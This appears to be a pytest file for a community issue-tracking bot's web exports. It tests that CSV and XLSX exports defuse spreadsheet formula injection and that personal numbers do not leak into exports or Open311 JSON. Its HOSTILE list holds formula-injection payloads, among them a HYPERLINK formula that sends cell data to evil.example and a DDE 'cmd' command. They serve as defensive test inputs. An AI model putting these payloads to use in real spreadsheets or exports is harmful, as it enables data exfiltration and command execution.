"""CSV and XLSX exports never carry a live formula: a resident's words stay words in the spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from aiohttp.test_utils import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.core.settings import Settings
from handlers.deps import Deps
from handlers.domain import results, tickets
from storage.records import Ticket
from storage.states import TicketState
from tests.test_privacy import TEXTS_WITH_NUMBERS, leaks
from tests.web.conftest import login
from tests.web.seed import GRID_CHAT, NOW, Seeded, web_settings
from web import export
from web.views import open311

Client = TestClient  # type: ignore[type-arg]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def open_in_g10(deps: Deps, text: str, reporter_name: str = "某居民") -> Ticket:
    """A resident's report in 美景天城3栋 (第十网格), as the bot opens it."""
    grid = deps.settings.grids_by_id["g10"]
    chat_id, topic = GRID_CHAT["g10"]
    return tickets.open_ticket(
        deps,
        msg=None,
        chat_id=chat_id,
        chat_topic=topic,
        reporter_id="wxid_res_x",
        reporter_name=reporter_name,
        text=text,
        category="sanitation",
        urgency="normal",
        grid=grid,
        community=deps.settings.community_of_grid["g10"],
    )


def _open(seeded: Seeded, text: str, result: str) -> int:
    with seeded.services.turn() as deps:
        t = open_in_g10(deps, text)
        results.resolve(deps, t, "wxid_zhangyan", result)
        return t.id


@pytest.mark.parametrize("hostile", HOSTILE)
async def test_a_csv_cell_that_would_be_a_formula_gets_a_quote(client: Client, seeded: Seeded, hostile: str) -> None:
    ticket = _open(seeded, hostile, hostile)
    assert await login(client, "wxid_wanghuan") == 302
    body = await (await client.get(f"/tickets.csv?q=%23{ticket}")).read()
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [(r["内容"], r["办理结果"]) for r in rows] == [("'" + hostile, "'" + hostile)]


async def test_every_xlsx_cell_is_a_string(client: Client, seeded: Seeded) -> None:
    ids = [_open(seeded, hostile, hostile) for hostile in HOSTILE]
    assert await login(client, "wxid_wanghuan") == 302
    book = load_workbook(io.BytesIO(await (await client.get("/tickets.xlsx")).read()))
    cells = [cell for row in book["工单"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    by_id = {row[0].value: row for row in book["工单"].iter_rows(min_row=2)}
    assert [(by_id[str(i)][12].value, by_id[str(i)][13].value) for i in ids] == [(h, h) for h in HOSTILE]


_TICKET = Ticket(
    id=1024,
    community_id="meijing",
    grid_id="g10",
    chat_id="room_tiancheng_3",
    chat_topic="美景天城3栋",
    reporter_id="wxid_res_x",
    reporter_name="某居民",
    category="sanitation",
    urgency="normal",
    state=TicketState.RESOLVED,
    level=1,
    holder_id="wxid_zhangyan",
    text="",
    result="",
    source_message_id=None,
    merged_into=None,
    created_at=NOW,
    updated_at=NOW,
    level_since=NOW,
    first_response_at=None,
    resolved_at=NOW,
    closed_at=None,
    deadline_at=None,
    ack_due_at=None,
    remind_at=None,
    promise_at=None,
    overdue_at=None,
    paused_at=None,
    resume_at=None,
    result_due_at=None,
    next_due_at=None,
    rating="",
    outcome="solved",
    outcome_note="",
    version=1,
)


@pytest.fixture(scope="module")
def street(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return web_settings(tmp_path_factory.mktemp("street"))


@settings(max_examples=150, deadline=None)
@given(text=st.builds("".join, TEXTS_WITH_NUMBERS), result=st.builds("".join, TEXTS_WITH_NUMBERS))
def test_no_number_survives_in_a_list_row_an_export_or_open311(street: Settings, text: str, result: str) -> None:
    web = street
    ticket = replace(_TICKET, text=text, result=result)
    row = export.row(web, ticket, NOW)
    csv_text = export.to_csv(web, [ticket], NOW).decode("utf-8-sig")
    served = json.dumps(open311.request_json(web, ticket, ["某居民"]), ensure_ascii=False)
    for output in (row["内容"], row["办理结果"], csv_text, served):
        assert leaks(output) == []


@pytest.mark.parametrize("ascii_only", [True, False])
def test_a_control_character_before_digits_makes_no_number_in_open311(street: Settings, ascii_only: bool) -> None:
    """JSON writes U+0019 as \\u0019: its digits and "2 3 0 0 0 0 0 0 000" after it read as a 15-digit ID."""
    for text in ["\x192 3 0 0 0 0 0 0 000", "电话\x1b3812345678", "\x851 3812345678"]:
        ticket = replace(_TICKET, text=text, result=text)
        served = json.dumps(open311.request_json(street, ticket, ["某居民"]), ensure_ascii=ascii_only)
        assert leaks(served) == [], served
